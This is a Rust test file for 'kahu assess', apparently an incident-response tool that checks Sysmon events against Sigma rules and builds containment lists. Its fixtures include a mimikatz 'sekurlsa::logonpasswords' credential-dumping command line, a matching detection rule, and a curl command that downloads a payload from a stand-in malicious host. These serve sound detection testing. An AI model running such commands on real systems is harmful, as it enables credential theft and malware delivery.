//! `kahu assess` argument checks that fail before any work is done.
#![allow(clippy::unwrap_used, reason = "test code may unwrap")]

use std::process::Command;

#[test]
fn unknown_tlp_is_a_clear_error() {
    let out = Command::new(env!("CARGO_BIN_EXE_kahu"))
        .args(["assess", "--demo", "--tlp", "TLP:PURPLE", "--out"])
        .arg(std::env::temp_dir().join("kahu-cli-tlp-test"))
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("TLP:PURPLE") && err.contains("TLP:AMBER+STRICT"),
        "{err}"
    );
}

#[test]
fn infra_with_an_address_that_is_no_ip_is_refused_before_any_work() {
    let out_dir = tempfile::tempdir().unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_kahu"))
        .args([
            "assess",
            "--demo",
            "--infra",
            "203.0.113=soho-router",
            "--out",
        ])
        .arg(out_dir.path().join("out"))
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("\"203.0.113\" is not an IP address"), "{err}");
    // Refused at argument parsing: the demo was not generated.
    assert!(!out_dir.path().join("out").exists());
}

/// One Sysmon process creation running mimikatz, and a high rule for it.
const RULE: &str = "title: Test Mimikatz\nid: 00000000-0000-4000-8000-000000000071\nstatus: test\nlevel: high\nlogsource:\n    product: windows\n    category: process_creation\ndetection:\n    selection:\n        CommandLine|contains: sekurlsa\n    condition: selection\n";
const MIMIKATZ: &str = r##"{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"EventID":1,"EventRecordID":11,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"WS1.corp.local","TimeCreated":{"#attributes":{"SystemTime":"2024-05-01T10:00:00Z"}}},"EventData":{"Image":"C:\\Users\\bob\\mimikatz.exe","OriginalFileName":"mimikatz.exe","CommandLine":"mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit","User":"CORP\\bob"}}}"##;

/// `-v` logs each stage (no colour codes when redirected), the summary
/// reminds the analyst of `--producer`/`--name` until both are given,
/// `--no-case` writes no case store (the summary gives the size of one),
/// and `--fail-on LEVEL` exits 1 only when a detection reached the level.
#[test]
fn verbose_stages_sharing_reminder_and_fail_on() {
    let dir = tempfile::tempdir().unwrap();
    let ev = dir.path().join("ev.jsonl");
    std::fs::write(&ev, format!("{MIMIKATZ}\n")).unwrap();
    let rule = dir.path().join("r.yml");
    std::fs::write(&rule, RULE).unwrap();
    let run = |extra: &[&str], out: &str| {
        Command::new(env!("CARGO_BIN_EXE_kahu"))
            .arg("assess")
            .arg(&ev)
            .arg("--rules")
            .arg(&rule)
            .args(["--no-case", "--out"])
            .arg(dir.path().join(out))
            .args(extra)
            .output()
            .unwrap()
    };
    let plain = run(&[], "a");
    assert!(plain.status.success(), "{plain:?}");
    let stdout = String::from_utf8_lossy(&plain.stdout);
    assert!(
        stdout.contains("set --producer") && stdout.contains("--name"),
        "{stdout}"
    );
    let named = run(&["-v", "--producer", "CERT Test", "--name", "Case 1"], "b");
    assert!(named.status.success(), "{named:?}");
    assert!(!String::from_utf8_lossy(&named.stdout).contains("set --producer"));
    let log = String::from_utf8_lossy(&named.stderr);
    for stage in [
        "rules loaded",
        "evidence listed",
        "detection pass done",
        "assessment assembled",
        "outputs written",
    ] {
        assert!(log.contains(stage), "no `{stage}` in -v log: {log}");
    }
    assert!(!log.contains('\u{1b}'), "colour codes in a redirected log");
    // findings.jsonl names each Sigma finding's rule file.
    let findings = std::fs::read_to_string(dir.path().join("b/findings.jsonl")).unwrap();
    let first: serde_json::Value =
        serde_json::from_str(findings.lines().next().expect("a finding")).unwrap();
    assert_eq!(first["rule_file"], rule.display().to_string(), "{first}");
    // --no-case (every `run` above) writes no case store and no Case: line;
    // without it the case is written and the summary gives its size.
    assert!(!dir.path().join("b/case.sqlite").exists());
    assert!(!String::from_utf8_lossy(&plain.stdout).contains("Case:"));
    let full = Command::new(env!("CARGO_BIN_EXE_kahu"))
        .arg("assess")
        .arg(&ev)
        .arg("--rules")
        .arg(&rule)
        .arg("--out")
        .arg(dir.path().join("f"))
        .output()
        .unwrap();
    assert!(full.status.success(), "{full:?}");
    assert!(dir.path().join("f/case.sqlite").is_file());
    let summary = String::from_utf8_lossy(&full.stdout);
    let case_line = summary
        .lines()
        .find(|l| l.starts_with("Case:"))
        .unwrap_or_else(|| panic!("no Case: line in {summary}"));
    assert!(case_line.contains(" MB;"), "{case_line}");
    let high = run(&["--fail-on", "high"], "c");
    assert_eq!(high.status.code(), Some(1), "{high:?}");
    let critical_only = run(&["--fail-on", "critical"], "d");
    assert_eq!(critical_only.status.code(), Some(0), "{critical_only:?}");
}

/// `--out` naming a link to a directory (an output disk mounted elsewhere)
/// writes the case and the report there, together; a file of that name is
/// a clear error naming it. The link used to be replaced by a new folder
/// after the case had been written through it: the run failed with "not a
/// kahu case" and the products were split between two places.
#[cfg(unix)]
#[test]
fn an_out_link_to_a_directory_is_written_through_and_a_file_there_is_named() {
    let dir = tempfile::tempdir().unwrap();
    let ev = dir.path().join("ev.jsonl");
    std::fs::write(&ev, format!("{MIMIKATZ}\n")).unwrap();
    let rule = dir.path().join("r.yml");
    std::fs::write(&rule, RULE).unwrap();
    let real = dir.path().join("disk");
    std::fs::create_dir(&real).unwrap();
    let link = dir.path().join("out");
    std::os::unix::fs::symlink(&real, &link).unwrap();
    let run = |out: &std::path::Path| {
        Command::new(env!("CARGO_BIN_EXE_kahu"))
            .args(["--quiet", "assess"])
            .arg(&ev)
            .arg("--rules")
            .arg(&rule)
            .arg("--out")
            .arg(out)
            .output()
            .unwrap()
    };
    let o = run(&link);
    assert!(o.status.success(), "{o:?}");
    assert!(std::fs::symlink_metadata(&link).unwrap().is_symlink());
    for name in [
        "case.sqlite",
        "report.html",
        "findings.jsonl",
        "containment",
    ] {
        assert!(
            real.join(name).exists(),
            "{name} not written through the link"
        );
    }
    let file = dir.path().join("a-file");
    std::fs::write(&file, "x").unwrap();
    let o = run(&file);
    assert!(!o.status.success());
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains(&*file.to_string_lossy()) && err.contains("a file of that name exists"),
        "{err}"
    );
    assert_eq!(std::fs::read(&file).unwrap(), b"x");
}

/// When every technique seen is left out before scoring (the blanket tags
/// of one broad rule), the judgement says so instead of claiming no
/// technique was observed next to a summary that counts them.
#[test]
fn insufficient_evidence_names_what_was_left_out_rather_than_deny_it() {
    let dir = tempfile::tempdir().unwrap();
    let ev = dir.path().join("ev.jsonl");
    std::fs::write(&ev, format!("{MIMIKATZ}\n")).unwrap();
    let broad = RULE.replace(
        "level: high\n",
        "level: high\ntags:\n    - attack.credential-access\n    - attack.t1003.001\n    - attack.t1003.002\n    - attack.t1003.004\n    - attack.t1003.005\n    - attack.t1003.006\n",
    );
    let judgement = |rule_text: &str, out: &str| {
        let rule = dir.path().join(format!("{out}.yml"));
        std::fs::write(&rule, rule_text).unwrap();
        let o = Command::new(env!("CARGO_BIN_EXE_kahu"))
            .args(["--quiet", "assess"])
            .arg(&ev)
            .arg("--rules")
            .arg(&rule)
            .args(["--no-bundled-rules", "--no-case", "--out"])
            .arg(dir.path().join(out))
            .output()
            .unwrap();
        assert!(o.status.success(), "{o:?}");
        // No actor is listed with nothing for it.
        let stdout = String::from_utf8_lossy(&o.stdout);
        assert!(!stdout.contains("supporting  0"), "{stdout}");
        let a: serde_json::Value = serde_json::from_slice(
            &std::fs::read(dir.path().join(out).join("assessment.json")).unwrap(),
        )
        .unwrap();
        (
            a["attribution"]["judgement"].as_str().unwrap().to_string(),
            a["techniques"].as_array().map_or(0, Vec::len),
            format!(
                "{} | {}",
                a["summary"]["headline"].as_str().unwrap(),
                a["summary"]["key_points"][0].as_str().unwrap_or_default()
            ),
        )
    };
    let (text, techniques, headline) = judgement(&broad, "broad");
    assert!(techniques > 0, "the techniques seen are listed");
    // One event: a moment, not a range. The five techniques only the broad
    // rule's blanket tags name are not claimed, and the headline says so
    // (since session 19; it counted them, while attribution left them out).
    assert!(
        headline.contains("on 1 host(s) at 2024-05-01 10:00:00 UTC: no ATT&CK technique identified at medium level or above (5 named only by broad rules' blanket tags, not counted)"),
        "{headline}"
    );
    // The incident's key point too: "at T", not "T to T".
    assert!(
        headline.ends_with("(high): at 2024-05-01 10:00:00 UTC"),
        "{headline}"
    );
    assert!(
        text.contains("left out before scoring")
            && text.contains("T1003.001")
            && !text.contains(": no ATT&CK technique"),
        "{text}"
    );
    let (text, techniques, _) = judgement(RULE, "untagged");
    assert_eq!(techniques, 0);
    assert!(text.contains(": no ATT&CK technique"), "{text}");
}

/// Assess one event file (`ev`) with one input file (`input`, given with
/// `flag`, e.g. `--ioc` or `--rules`) and `extra` arguments; the text of the
/// containment list `list`.
fn containment_list(
    ev: &str,
    flag: &str,
    input: (&str, &str),
    extra: &[&str],
    list: &str,
) -> String {
    let dir = tempfile::tempdir().unwrap();
    let ev_path = dir.path().join("ev.jsonl");
    std::fs::write(&ev_path, ev).unwrap();
    let input_path = dir.path().join(input.0);
    std::fs::write(&input_path, input.1).unwrap();
    let out = dir.path().join("out");
    let run = Command::new(env!("CARGO_BIN_EXE_kahu"))
        .args(["-q", "assess", "--no-case"])
        .args(extra)
        .arg(flag)
        .arg(&input_path)
        .arg(&ev_path)
        .arg("--out")
        .arg(&out)
        .output()
        .unwrap();
    assert!(
        run.status.success(),
        "{}",
        String::from_utf8_lossy(&run.stderr)
    );
    std::fs::read_to_string(out.join("containment").join(list)).unwrap()
}

/// An indicator URL found in a command line (no field named "url") is put
/// on the URL block list with the indicator as its reason; it was in no
/// list at all, though the host was isolated for it.
#[test]
fn a_url_an_indicator_names_is_block_listed_wherever_the_event_held_it() {
    let list = containment_list(
        r#"{"@timestamp":"2024-01-01T10:00:00Z","Computer":"ws01","Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Image":"C:\\Users\\a\\evil.exe","CommandLine":"curl http://bad.example.net/payload.bin"}"#,
        "--ioc",
        ("feed.txt", "http://bad.example.net/payload.bin\n"),
        &[],
        "blocklist-urls.csv",
    );
    let row = list
        .lines()
        .find(|l| l.starts_with("http://bad.example.net/payload.bin,"))
        .unwrap_or_else(|| panic!("URL not block-listed:\n{list}"));
    assert!(row.contains("named by indicator"), "{row}");
}

/// A connection the process accepted (Sysmon `Initiated: false`) names the
/// remote client as "destination" with its ephemeral port: the internal
/// address is the client that connected in, not a service explorer.exe
/// contacted on port 58172.
#[test]
fn an_accepted_connection_names_the_client_that_connected_in() {
    let list = containment_list(
        r##"{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"EventID":3,"EventRecordID":17424,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"IEWIN7","TimeCreated":{"#attributes":{"SystemTime":"2019-05-24T01:33:53Z"}}},"EventData":{"Image":"C:\\Windows\\explorer.exe","Protocol":"tcp","Initiated":"false","SourceIp":"10.0.2.16","SourcePort":"49158","DestinationIp":"10.0.2.17","DestinationPort":"58172"}}}"##,
        "--rules",
        (
            "r.yml",
            "title: Explorer Accepted A Network Connection\nid: 00000000-0000-4000-8000-000000000072\nstatus: test\nlevel: high\nlogsource:\n    product: windows\n    category: network_connection\ndetection:\n    selection:\n        Image|endswith: '\\explorer.exe'\n        Initiated: 'false'\n    condition: selection\n",
        ),
        &["--no-bundled-rules"],
        "internal-ips-to-investigate.csv",
    );
    let row = list
        .lines()
        .find(|l| l.starts_with("10.0.2.17,"))
        .unwrap_or_else(|| panic!("10.0.2.17 not listed:\n{list}"));
    assert!(
        row.contains("connected in to C:\\Windows\\explorer.exe on 10.0.2.16 port 49158"),
        "{row}"
    );
    assert!(!row.contains("58172"), "{row}");
}

/// `--out` naming a folder that holds a `report.html` or `findings.jsonl`
/// no kahu run wrote (the analyst's notes, another tool's output) is
/// refused before any work; a folder a previous run wrote is updated.
#[test]
fn an_out_folder_with_files_kahu_did_not_write_is_refused_not_overwritten() {
    let dir = tempfile::tempdir().unwrap();
    let ev = dir.path().join("ev.jsonl");
    std::fs::write(&ev, format!("{MIMIKATZ}\n")).unwrap();
    let theirs = dir.path().join("theirs");
    std::fs::create_dir(&theirs).unwrap();
    std::fs::write(theirs.join("report.html"), "my notes").unwrap();
    let run = |out: &std::path::Path| {
        Command::new(env!("CARGO_BIN_EXE_kahu"))
            .args(["-q", "assess", "--no-case"])
            .arg(&ev)
            .arg("--out")
            .arg(out)
            .output()
            .unwrap()
    };
    let refused = run(&theirs);
    assert_eq!(refused.status.code(), Some(2), "{refused:?}");
    assert!(
        String::from_utf8_lossy(&refused.stderr)
            .contains("already holds report.html that no kahu run wrote"),
        "{refused:?}"
    );
    assert_eq!(
        std::fs::read_to_string(theirs.join("report.html")).unwrap(),
        "my notes"
    );
    let ours = dir.path().join("ours");
    assert!(run(&ours).status.success());
    assert!(
        run(&ours).status.success(),
        "a second run updates its own folder"
    );
}
